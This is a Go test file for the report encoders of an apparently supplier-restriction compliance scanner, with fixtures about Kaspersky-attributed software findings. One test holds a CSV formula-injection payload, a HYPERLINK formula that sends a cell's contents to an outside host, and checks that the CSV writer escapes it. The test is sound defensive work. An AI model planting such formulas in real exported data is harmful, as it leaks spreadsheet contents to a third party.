package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/embargo-dev/embargo/finding"
	"github.com/embargo-dev/embargo/inventory"
	"github.com/embargo-dev/embargo/policy"
	"github.com/embargo-dev/embargo/report"
)

// noFindingsReport is the fixture judged by a policy that matched
// nothing.
func noFindingsReport(t *testing.T) *report.Report {
	t.Helper()
	r := fixedReport(t)
	r.Policy = &finding.PolicyRun{Packs: packs[1:2], FailOn: policy.Prohibit, Systems: "one-off"}
	r.Summary.Findings = &finding.Summary{ByEffect: map[string]int{}}
	return r
}

func TestGoldenFindings(t *testing.T) {
	r := policyReport(t)
	for _, tc := range []struct {
		format, file string
	}{
		{"json", "findings.json"},
		{"table", "findings.txt"},
		{"csv", "findings.csv"},
		{"sarif", "findings.sarif"},
	} {
		t.Run(tc.format, func(t *testing.T) {
			e, err := report.Lookup(tc.format)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, tc.file, encode(t, e, r))
		})
	}
}

// TestTableFindings checks what the golden file shows, and that the
// findings part fits a 120-column terminal however long its cells.
func TestTableFindings(t *testing.T) {
	long := policyReport(t)
	f := &long.Findings[0]
	f.Host = strings.Repeat("very-long-host-name.", 8) + "example"
	f.ItemName = strings.Repeat("An Application With A Long Name ", 4)
	f.System, f.Unregistered = strings.Repeat("system-", 10), false
	f.Error = "no such key: " + strings.Repeat("x", 200)
	f.Waiver = &finding.WaiverRef{ID: "W-1", Expired: true, Expiry: day("2025-01-01")}
	long.Policy.UnusedWaivers[0].Note = "decides no finding of this scan (scope: " + strings.Repeat(`system "x", `, 20) + ")"
	for _, tc := range []struct {
		name  string
		r     *report.Report
		lines []string // lines the output must have, in order
	}{
		{"fixture", policyReport(t), []string{
			"Findings (6)",
			"uk-ncsc-2017-russia-av — Agency standard: remove Russia-based security products within 30 days of discovery",
			"uk-ncsc-2017-russia-av — NCSC 2017, Russia-based anti-virus and security products on government systems",
			"https://www.ncsc.gov.uk/blog-post/managing-supply-chain-risk-cloud-enabled-products",
			"  remove by 2025-06-13 — due in 12 days",
			"    FINDING         EFFECT     SYSTEM                     HOST                      ITEM",
			"    F-cf67336880b8  remove-by  (unregistered) OFFICIAL    lab-pc-3.agency.example   Corporate Security Agent 21.3.10.391",
			"                    open · rule agency-remove-30d · high severity · supplier kaspersky-ao",
			"  no deadline",
			"  deadline 2017-10-13 — overdue by 2788 days",
			"                    open — waiver W-0003 expired on 2025-03-31 · rule bod-17-01-identify · medium severity · product ka…",
			"  remove by 2017-12-12 — overdue by 2728 days",
			"                    waived by W-0007 until 2025-09-30 · rule bod-17-01-remove · high severity · product kaspersky-endpo…",
			"  remove by 2018-10-01 — overdue by 2435 days",
			"    F-3451dc8c99b6  prohibit   fed-ops-desktops OFFICIAL  ops-ws-17.agency.example  kesl 11.2.0.4528",
			"Unused waivers (1):",
			`  waiver W-0011 (testdata/waivers.yaml:20) decides no finding of this scan (scope: system "malware-lab")`,
			"    in force until 2025-12-31",
			"Hosts that matched no system of testdata/systems.yaml, judged as its default (1):",
			"  lab-pc-3.agency.example",
			"Hosts that matched several systems of testdata/systems.yaml equally well (1):",
			"  build-07.agency.example",
			"Items attributed to restricted suppliers (2)",
			"AO Kaspersky Lab — controlled from RU (AO Kaspersky Lab, RU)",
			"5 items: 2 attributed to restricted suppliers, 3 not attributed, 1 unknown.",
			"Policy of 4 packs: 5 open findings (1 prohibit, 1 remove-by, 3 warn), 2 overdue, 1 waived; failing on remove-by: 2.",
		}},
		{"no findings", noFindingsReport(t), []string{
			"Findings (0)",
			"No rule of the policy matched.",
			"Items attributed to restricted suppliers (2)",
			"Policy uk-ncsc-2017-russia-av: 0 open findings (0 prohibit, 0 remove-by, 0 warn), 0 overdue, 0 waived; failing on prohibit: 0.",
		}},
		{"long cells", long, []string{
			"    F-cf67336880b8  remove-by  system-system-system-system…  very-long-host-name.very-lo…  An Application With A Long N…",
			"                    open — waiver W-1 expired on 2025-01-01 · rule agency-remove-30d · undecided: no such key: xxxxxxxx…",
			`  waiver W-0011 (testdata/waivers.yaml:20) decides no finding of this scan (scope: system "x", system "x", system "x", …`,
			"    in force until 2025-12-31",
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out := string(encode(t, report.Table{}, tc.r))
			lines := strings.Split(out, "\n")
			part, _, _ := strings.Cut(out, "Items attributed to restricted suppliers")
			for i, l := range strings.Split(part, "\n") {
				if n := len([]rune(l)); n > 120 {
					t.Errorf("line %d of the findings part is %d columns wide:\n%s", i+1, n, l)
				}
			}
			at := 0
			for _, want := range tc.lines {
				i := at
				for i < len(lines) && lines[i] != want {
					i++
				}
				if i == len(lines) {
					t.Errorf("no line %q after line %d in:\n%s", want, at, out)
					continue
				}
				at = i + 1
			}
		})
	}
}

// readFindingsCSV parses the CSV of a report judged by policy into one
// map per row, keyed by column, empty cells left out.
func readFindingsCSV(t *testing.T, out []byte) []map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v", err)
	}
	want := []string{
		"finding_id", "state", "effect", "severity", "instrument", "pack", "rule", "clause", "url", "deadline", "due", "days_left",
		"first_seen", "system", "classification", "department", "owner", "unregistered", "host", "item_id", "item_name", "item_version",
		"product", "supplier", "controlling_country", "waiver_id", "waiver_expiry", "waiver_note", "error", "tier", "local", "data",
	}
	if diff := cmp.Diff(want, recs[0]); diff != "" {
		t.Fatalf("header (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(report.CSVFindingsHeader, recs[0]); diff != "" {
		t.Fatalf("header is not CSVFindingsHeader (-want +got):\n%s", diff)
	}
	var rows []map[string]string
	for _, rec := range recs[1:] {
		m := map[string]string{}
		for i, c := range rec {
			if c != "" {
				m[want[i]] = c
			}
		}
		rows = append(rows, m)
	}
	return rows
}

func TestCSVFindings(t *testing.T) {
	r := policyReport(t)
	rows := readFindingsCSV(t, encode(t, report.CSV{}, r))
	if len(rows) != len(r.Findings)+len(r.Unknowns) {
		t.Fatalf("%d rows, want one per finding (%d) and unknown (%d)", len(rows), len(r.Findings), len(r.Unknowns))
	}
	kesl, agent := r.Items[1].ID, r.Items[2].ID
	ops := map[string]string{
		"system": opsID, "classification": "OFFICIAL", "department": "Operations", "owner": "ops-it@agency.example",
		"unregistered": "false", "host": opsHost, "item_id": kesl, "item_name": "kesl", "item_version": "11.2.0.4528",
		"product": "kaspersky-endpoint-security-linux", "supplier": "kaspersky-ao", "controlling_country": "RU",
		"first_seen": "2024-11-04T00:00:00Z", "local": "false",
	}
	lab := map[string]string{
		"system": labID, "classification": "OFFICIAL", "unregistered": "true", "host": labHost,
		"item_id": agent, "item_name": "Corporate Security Agent", "item_version": "21.3.10.391",
		"supplier": "kaspersky-ao", "controlling_country": "RU", "first_seen": "2025-05-14T00:00:00Z", "local": "false",
	}
	with := func(base map[string]string, kv ...string) map[string]string {
		m := map[string]string{}
		for k, v := range base {
			m[k] = v
		}
		for i := 0; i < len(kv); i += 2 {
			m[kv[i]] = kv[i+1]
		}
		return m
	}
	byRule := func(f *finding.Finding) []string {
		return []string{"finding_id", f.ID, "effect", string(f.Effect), "severity", string(f.Severity), "instrument", f.Instrument,
			"pack", f.Pack, "rule", f.Rule, "clause", f.Clause, "url", f.URL}
	}
	for i, tc := range []struct {
		name string
		want map[string]string
	}{
		{"remove-by due in 12 days, unregistered host", with(lab, append(byRule(&r.Findings[0]),
			"state", "open", "deadline", "2025-06-13", "due", "due", "days_left", "12")...)},
		{"warn, no deadline", with(ops, append(byRule(&r.Findings[1]), "state", "open", "due", "none")...)},
		{"warn, no deadline, unregistered host", with(lab, append(byRule(&r.Findings[2]), "state", "open", "due", "none")...)},
		{"warn overdue, waiver expired", with(ops, append(byRule(&r.Findings[3]),
			"state", "open", "deadline", "2017-10-13", "due", "overdue", "days_left", "-2788",
			"waiver_id", "W-0003", "waiver_expiry", "2025-03-31", "waiver_note", "waiver W-0003 expired on 2025-03-31")...)},
		{"remove-by overdue, waived", with(ops, append(byRule(&r.Findings[4]),
			"state", "waived", "deadline", "2017-12-12", "due", "overdue", "days_left", "-2728",
			"waiver_id", "W-0007", "waiver_expiry", "2025-09-30")...)},
		{"prohibit overdue", with(ops, append(byRule(&r.Findings[5]),
			"state", "open", "deadline", "2018-10-01", "due", "overdue", "days_left", "-2435")...)},
		{"unknown", map[string]string{"state": "unknown",
			"error": fixture + " /components/3: no name, package URL, CPE, supplier or location to attribute it by"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, rows[i]); diff != "" {
				t.Errorf("row %d (-want +got):\n%s", i+1, diff)
			}
		})
	}
}

// TestCSVFindingsFormulaInjection: every cell of a finding row is
// guarded, whatever column it is in; days_left stays a number.
func TestCSVFindingsFormulaInjection(t *testing.T) {
	const bad = `=HYPERLINK("https://example.com/?"&A1,"x")`
	r := policyReport(t)
	r.Findings = r.Findings[3:4] // overdue, with an expired waiver
	f := &r.Findings[0]
	f.Clause, f.Host, f.ItemName, f.ItemVersion, f.Department, f.Owner = bad, "@host", bad, "+1", "-ops", "=owner"
	f.Waiver = &finding.WaiverRef{ID: "+W", Expired: true, Note: "@note", Expiry: day("2025-03-31")}
	f.Error = "-2+3"
	r.Unknowns = []inventory.Unknown{{Location: inventory.Location{Source: "=src", Host: "+h"}, Name: bad, Reason: "unreadable"}}
	rows := readFindingsCSV(t, encode(t, report.CSV{}, r))
	got := map[string]string{}
	for _, k := range []string{"clause", "host", "item_name", "item_version", "department", "owner", "waiver_id", "waiver_note", "error", "days_left"} {
		got[k] = rows[0][k]
	}
	want := map[string]string{
		"clause": "'" + bad, "host": "'@host", "item_name": "'" + bad, "item_version": "'+1", "department": "'-ops", "owner": "'=owner",
		"waiver_id": "'+W", "waiver_note": "'@note", "error": "'-2+3", "days_left": "-2788",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("finding row (-want +got):\n%s", diff)
	}
	wantUnknown := map[string]string{"state": "unknown", "host": "'+h", "item_name": "'" + bad, "error": "'=src: unreadable"}
	if diff := cmp.Diff(wantUnknown, rows[1]); diff != "" {
		t.Errorf("unknown row (-want +got):\n%s", diff)
	}
}

func TestJSONFindings(t *testing.T) {
	r := policyReport(t)
	var got struct {
		Summary  report.Summary
		Policy   *finding.PolicyRun
		Findings []finding.Finding
	}
	unmarshal(t, encode(t, report.JSON{}, r), &got)
	if diff := cmp.Diff(r.Findings, got.Findings); diff != "" {
		t.Errorf("findings do not round-trip (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(r.Policy, got.Policy); diff != "" {
		t.Errorf("policy does not round-trip (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(r.Summary.Findings, got.Summary.Findings); diff != "" {
		t.Errorf("summary.findings does not round-trip (-want +got):\n%s", diff)
	}
	out := string(encode(t, report.JSON{}, noFindingsReport(t)))
	if !strings.Contains(out, `"findings": []`) {
		t.Errorf("a policy that matched nothing writes no empty findings array")
	}
}

// TestJSONSchemaBitesFindings makes sure the schema checks findings, so
// that validating the findings report means something.
func TestJSONSchemaBitesFindings(t *testing.T) {
	s := compileSchema(t, report.SchemaURL, []schemaFile{{report.SchemaURL, readJSON(t, "../schema/report.schema.json")}})
	out := encode(t, report.JSON{}, policyReport(t))
	for _, tc := range []struct {
		name   string
		breakf func(doc map[string]any)
	}{
		{"unknown effect", func(d map[string]any) { findingAt(d, 0)["effect"] = "ban" }},
		{"bad finding id", func(d map[string]any) { findingAt(d, 0)["id"] = "F-1" }},
		{"waived without a waiver", func(d map[string]any) { delete(findingAt(d, 4), "waiver") }},
		{"overdue without a deadline", func(d map[string]any) { delete(findingAt(d, 5), "deadline") }},
		{"no deadline with a deadline", func(d map[string]any) { findingAt(d, 1)["deadline"] = "2025-01-01T00:00:00Z" }},
		{"unknown finding field", func(d map[string]any) { findingAt(d, 0)["status"] = "open" }},
		{"deadline rule without date or from", func(d map[string]any) {
			findingAt(d, 0)["deadline_rule"] = map[string]any{"days_after": 3}
		}},
		{"policy without findings", func(d map[string]any) { delete(d, "findings") }},
		{"findings without policy", func(d map[string]any) { delete(d, "policy") }},
		{"policy without packs", func(d map[string]any) { d["policy"].(map[string]any)["packs"] = []any{} }},
		{"summary.findings without failing", func(d map[string]any) {
			delete(d["summary"].(map[string]any)["findings"].(map[string]any), "failing")
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var doc map[string]any
			unmarshal(t, out, &doc)
			tc.breakf(doc)
			bad, err := json.Marshal(doc)
			if err != nil {
				t.Fatal(err)
			}
			if validateErr(s, bad) == nil {
				t.Errorf("a broken report validates")
			}
		})
	}
}

func findingAt(doc map[string]any, i int) map[string]any {
	return doc["findings"].([]any)[i].(map[string]any)
}

// TestJSONSchemaCoversFindings: the schema describes every field the
// policy types write, and no other, so that a field added to a type is
// added to the schema too.
func TestJSONSchemaCoversFindings(t *testing.T) {
	doc := readJSON(t, "../schema/report.schema.json").(map[string]any)
	defs := doc["$defs"].(map[string]any)
	props := func(def map[string]any) []string {
		var keys []string
		for k := range def["properties"].(map[string]any) {
			keys = append(keys, k)
		}
		slices.Sort(keys)
		return keys
	}
	findingDef := defs["finding"].(map[string]any)
	policyDef := defs["policy"].(map[string]any)
	packsDef := policyDef["properties"].(map[string]any)["packs"].(map[string]any)["items"].(map[string]any)
	deadlineDef := findingDef["properties"].(map[string]any)["deadline_rule"].(map[string]any)
	for _, tc := range []struct {
		name string
		v    any
		def  map[string]any
	}{
		{"finding", finding.Finding{}, findingDef},
		{"policy", finding.PolicyRun{}, policyDef},
		{"pack", finding.PackRef{}, packsDef},
		{"waiver", finding.WaiverRef{}, defs["waiver"].(map[string]any)},
		{"finding summary", finding.Summary{}, defs["finding_summary"].(map[string]any)},
		{"deadline rule", policy.Deadline{}, deadlineDef},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if diff := cmp.Diff(jsonFields(reflect.TypeOf(tc.v)), props(tc.def)); diff != "" {
				t.Errorf("fields (-written +in the schema):\n%s", diff)
			}
		})
	}
}

// jsonFields lists the JSON names of a struct's fields, embedded structs
// flattened, sorted.
func jsonFields(typ reflect.Type) []string {
	var out []string
	for f := range typ.Fields() {
		name, _, _ := strings.Cut(f.Tag.Get("json"), ",")
		switch {
		case name == "-" || !f.IsExported():
		case f.Anonymous && name == "":
			out = append(out, jsonFields(f.Type)...)
		case name == "":
			out = append(out, f.Name)
		default:
			out = append(out, name)
		}
	}
	slices.Sort(out)
	return out
}

// Every row of a CSV report names the data that judged it.
func TestCSVDataColumn(t *testing.T) {
	r := policyReport(t)
	r.Data = &report.Data{Source: "feed", FeedVersion: 12, Catalog: report.DataTarget{Version: "2026.12.7", Digest: "sha256:aaa"},
		Packs: report.DataTarget{Digest: "bbb"}}
	rows := readFindingsCSV(t, encode(t, report.CSV{}, r))
	want := "source=feed feed_version=12 version=2026.12.7 catalogue=sha256:aaa packs=bbb"
	for i, row := range rows {
		if row["data"] != want {
			t.Errorf("row %d: data %q, want %q", i, row["data"], want)
		}
	}
	r.Policy, r.Findings = nil, nil
	recs, err := csv.NewReader(bytes.NewReader(encode(t, report.CSV{}, r))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		if got := rec[len(rec)-1]; got != want {
			t.Errorf("item row data %q, want %q", got, want)
		}
	}
}
